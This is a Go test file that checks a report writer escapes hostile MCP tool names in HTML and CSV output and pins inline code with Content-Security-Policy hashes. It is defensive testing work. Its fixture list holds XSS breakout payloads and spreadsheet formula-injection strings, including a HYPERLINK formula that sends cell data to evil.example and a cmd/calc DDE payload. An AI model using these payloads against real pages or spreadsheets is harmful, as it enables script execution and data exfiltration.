package reports_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"html"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/sessionfix/sessionfix/reports"
	"github.com/sessionfix/sessionfix/reports/htmltest"
)

// hostile are names a malicious or broken MCP server could list; none may become markup,
// a formula, or reorder the text around it.
var hostile = []struct{ name, value string }{
	{"script element", `<script>alert("x")</script>`},
	{"attribute breakout", `"><img src=x onerror=alert(1)>`},
	{"single-quote breakout", `'><svg onload=alert(1)>`},
	{"spreadsheet formula", `=HYPERLINK("http://evil.example/?"&A1,"click")`},
	{"plus formula", `+cmd|' /C calc'!A0`},
	{"at formula", `@SUM(1+1)*cmd|' /C calc'!A0`},
	{"leading tab", "\t=1+1"},
	{"style breakout", `</style><style>body{display:none}</style>`},
	{"comment breakout", `--><!--`},
	{"NUL byte", "mcp__srv__a\x00b"},
	{"bidi override", "mcp__srv__\u202eexe.tab"},
	{"bidi isolate", "mcp__srv__\u2066x\u2069"},
	{"very long", "mcp__srv__" + strings.Repeat("long_tool_name_", 400)},
	{"entity", `&lt;img src=x&gt; &amp;`},
}

func hostilePage() *reports.HTMLPage {
	t := &reports.Table{Columns: []string{"rule", "index", "change"}}
	changes := []string{"lost", "same", "gained"}
	for i, h := range hostile {
		t.Add(h.value, strings.Repeat("1", 1+i%3), changes[i%3])
	}
	return &reports.HTMLPage{
		Title:  `audit <script>alert(1)</script>`,
		Meta:   []string{`from "><img src=x onerror=alert(2)>`},
		Counts: []reports.HTMLCount{{Label: "rules", Value: len(hostile)}, {Label: "lost <b>", Value: 5, Tone: "bad"}},
		Notes:  []string{"server \u202eevil\u202c failed: <img src=y>"},
		Sections: []reports.HTMLSection{
			{ID: "pairs", Title: "Pairs <i>", Table: t, Facets: []string{"change"}},
			{ID: "empty", Title: "Nothing", Table: &reports.Table{Columns: []string{"a"}}, Empty: "no <rows>"},
		},
	}
}

var (
	scriptBody = regexp.MustCompile(`(?s)<script>(.*?)</script>`)
	styleBody  = regexp.MustCompile(`(?s)<style>(.*?)</style>`)
	tdText     = regexp.MustCompile(`<td[^>]*>([^<]*)</td>`)
	urlAttr    = regexp.MustCompile(`(?i)\b(?:href|src|action|formaction|srcset)="([^"]*)"`)
)

// pageElements are the only elements WriteHTML emits.
var pageElements = map[string]bool{"html": true, "head": true, "meta": true, "title": true, "style": true, "body": true,
	"header": true, "h1": true, "h2": true, "p": true, "ul": true, "li": true, "span": true, "noscript": true, "nav": true,
	"a": true, "section": true, "div": true, "label": true, "input": true, "select": true, "option": true, "table": true,
	"thead": true, "tbody": true, "tr": true, "th": true, "td": true, "script": true, "button": true, "wbr": true}

func TestWriteHTMLRendersHostileNamesInert(t *testing.T) {
	var b bytes.Buffer
	require.NoError(t, reports.WriteHTML(&b, hostilePage()))
	doc := b.String()

	tags := htmltest.Tags(doc)
	for tag := range tags {
		assert.True(t, pageElements[tag], "unexpected element <%s>", tag)
	}
	assert.Equal(t, 1, tags["script"], "only the page's own script")
	assert.Equal(t, 1, tags["style"], "only the page's own style sheet")
	assert.Zero(t, tags["img"]+tags["svg"]+tags["b"]+tags["i"])
	assert.Equal(t, 1, strings.Count(doc, "</script>"))
	assert.Equal(t, 1, strings.Count(doc, "</style>"))
	assert.False(t, strings.Contains(doc, "onerror=alert(1)>"), "the breakout keeps its > escaped")
	assert.False(t, strings.Contains(doc, "<!--"), "no comment opened")

	// A cell may break only at the <wbr> WriteHTML puts at a name's seams: the text is the
	// cell without them.
	plain := strings.ReplaceAll(doc, "<wbr>", "")
	cells := map[string]bool{}
	for _, m := range tdText.FindAllStringSubmatch(plain, -1) {
		cells[html.UnescapeString(m[1])] = true
	}
	for _, h := range hostile {
		t.Run(h.name, func(t *testing.T) {
			assert.True(t, cells[reports.Printable(h.value)], "the cell holds the whole name as text")
		})
	}
	has := func(s string) bool { return strings.Contains(plain, s) }
	assert.False(t, has("\x00"), "NUL")
	assert.False(t, has("\u202e") || has("\u2066") || has("\u2069") || has("\u202c"), "bidi controls")
	for _, want := range []string{
		`<td>mcp__srv__\u202eexe.tab</td>`, // bidi controls are shown as escapes
		`<td>mcp__srv__a\u0000b</td>`,
		`<td>&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;</td>`,
		`<td>&amp;lt;img src=x&amp;gt; &amp;amp;</td>`, // entities are escaped again
		`<p class="empty">no &lt;rows&gt;</p>`,
		`<td data-v="lost">lost</td>`,
		`<option>gained</option><option>lost</option><option>same</option>`, // facet values, sorted
		`<li data-tone="bad"><span class="n">5</span>`,
		`<li>server \u202eevil\u202c failed: &lt;img src=y&gt;</li>`,
	} {
		assert.True(t, has(want), "page contains %s", want)
	}
}

// TestContentSecurityPolicyPinsInlineCode checks that the CSP meta element comes before any
// script or style and that its hashes are those of the inline script and style sheet.
func TestContentSecurityPolicyPinsInlineCode(t *testing.T) {
	var b bytes.Buffer
	require.NoError(t, reports.WriteHTML(&b, hostilePage()))
	doc := b.String()
	csp := strings.Index(doc, `http-equiv="Content-Security-Policy"`)
	require.GreaterOrEqual(t, csp, 0)
	assert.Less(t, csp, strings.Index(doc, "<style>"))
	assert.Less(t, csp, strings.Index(doc, "<script>"))

	hash := func(s string) string {
		sum := sha256.Sum256([]byte(s))
		return "'sha256-" + base64.StdEncoding.EncodeToString(sum[:]) + "'"
	}
	script := scriptBody.FindStringSubmatch(doc)
	style := styleBody.FindStringSubmatch(doc)
	require.NotNil(t, script)
	require.NotNil(t, style)
	assert.Contains(t, reports.ContentSecurityPolicy, "script-src "+hash(script[1])+";")
	assert.Contains(t, reports.ContentSecurityPolicy, "style-src "+hash(style[1])+";")
	assert.Contains(t, reports.ContentSecurityPolicy, "default-src 'none'")
	assert.NotContains(t, reports.ContentSecurityPolicy, "unsafe")
	for _, m := range urlAttr.FindAllStringSubmatch(doc, -1) {
		assert.True(t, strings.HasPrefix(m[1], "#"), "only in-page links: %s", m[0])
	}
}

func TestWriteHTMLRejectsBadSections(t *testing.T) {
	tests := []struct {
		name string
		sec  reports.HTMLSection
	}{
		{"id with a quote", reports.HTMLSection{ID: `a"b`}},
		{"empty id", reports.HTMLSection{}},
		{"facet that is not a column", reports.HTMLSection{ID: "x", Table: &reports.Table{Columns: []string{"a"}}, Facets: []string{"b"}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := reports.WriteHTML(&bytes.Buffer{}, &reports.HTMLPage{Sections: []reports.HTMLSection{tt.sec}})
			assert.ErrorIs(t, err, reports.ErrBadSection)
		})
	}
}

func TestWriteCSVRendersHostileNamesInert(t *testing.T) {
	tbl := &reports.Table{Columns: []string{"name"}}
	for _, h := range hostile {
		tbl.Add(h.value)
	}
	var b bytes.Buffer
	require.NoError(t, reports.WriteCSV(&b, tbl))
	out := b.String()
	for _, formula := range []string{`"=HYPERLINK`, "\n=HYPERLINK", "\n+cmd", "\n@SUM", "\"\t=1"} {
		assert.NotContains(t, out, formula)
	}
	assert.Contains(t, out, `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`)
	assert.Contains(t, out, "'+cmd|' /C calc'!A0")
	assert.Contains(t, out, "'@SUM(1+1)")
}
